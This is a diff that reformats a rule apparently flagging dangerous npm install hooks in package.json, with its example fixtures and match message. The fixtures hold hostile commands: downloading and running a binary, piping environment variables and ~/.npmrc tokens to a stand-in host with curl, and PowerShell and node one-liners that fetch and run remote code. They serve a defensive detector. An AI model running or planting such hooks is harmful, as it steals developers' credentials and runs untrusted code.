@@ -53,8 +53,15 @@ _FILE = "package.json"
         Example(_package("install", "wget https://get.example.org/b -O b; chmod +x b; ./b"), (2,), _FILE),
         Example(_package("prepare", "env | curl -X POST -d @- https://in.example.org"), (2,), _FILE),
         Example(_package("postinstall", "cat ~/.npmrc | curl -d @- https://in.example.org"), (2,), "packages/a/package.json"),
-        Example(_package("preinstall", "powershell -Command \"iwr https://get.example.org/p.ps1 | iex\""), (2,), _FILE),
-        Example(_package("postinstall", "node -e \"require('https').get('https://get.example.org/x', r => r.on('data', d => eval(d.toString())))\""), (2,), _FILE),
+        Example(_package("preinstall", 'powershell -Command "iwr https://get.example.org/p.ps1 | iex"'), (2,), _FILE),
+        Example(
+            _package(
+                "postinstall",
+                "node -e \"require('https').get('https://get.example.org/x', r => r.on('data', d => eval(d.toString())))\"",
+            ),
+            (2,),
+            _FILE,
+        ),
     ),
     good=(
         Example(_package("prepare", "husky"), path=_FILE),
@@ -81,5 +88,7 @@ def check(launch: Launch, workspace: Workspace) -> Iterator[Match]:
         (sends_away(text), "sends private data, or a shell, to another host"),
     ):
         if deed is not None:
-            yield Match(span, f"Installing the package runs `{escaped(launch.name, 30)}`, which {what}.", identity=f"{launch.name}|{what}")
+            yield Match(
+                span, f"Installing the package runs `{escaped(launch.name, 30)}`, which {what}.", identity=f"{launch.name}|{what}"
+            )
             return
